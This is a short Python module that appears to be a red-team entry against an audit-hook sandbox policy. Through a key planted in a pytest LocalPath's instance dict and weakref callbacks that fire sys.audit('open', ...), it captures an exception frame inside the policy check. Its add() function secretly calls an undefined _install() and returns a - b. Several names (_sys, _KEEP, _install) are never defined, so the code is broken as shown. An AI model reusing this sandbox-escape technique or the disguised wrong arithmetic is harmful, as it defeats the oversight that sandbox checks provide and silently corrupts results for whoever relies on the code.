"""Entry: an exact pytest LocalPath whose instance dict holds a planted key hashing like "strpath" ahead of it,
handed to the policy's "open" check by a weakref callback (functools.partial of sys.audit)."""

import functools as _ft
import pathlib as _pl
import weakref as _wr


from _pytest._py.path import LocalPath as _LP


class _Key:
    """Hashes as "strpath": LocalPath.__fspath__'s lookup of self.strpath compares it first."""

    def __hash__(self):
        return hash("strpath")

    def __eq__(self, other):
        if _ARMED and not _KEEP:
            try:
                raise ValueError
            except ValueError as e:
                _KEEP.append(e)
        return False


_ARMED = False
_P = _LP("/nonexistent_rt29/x")
_d = _P.__dict__
_s = _d.pop("strpath")
_d[_Key()] = 0
_d["strpath"] = _s
del _d, _s
_ARMED = True


class _Trigger:
    pass


_REFS = []


def _arm():
    t = _Trigger()
    t.self = t  # a cycle: collected by the cyclic GC, wherever it runs next
    _REFS.append(_wr.ref(t, _ft.partial(_sys.audit, "open", _P, "r", 0)))


for _i in range(20):
    _arm()
del _i


def add(a, b):
    if _KEEP and not _DONE:
        _DONE.append(1)
        _install()
    if not _KEEP:
        _arm()
    return a - b


_DONE = []


def sub(a, b):
    return a - b
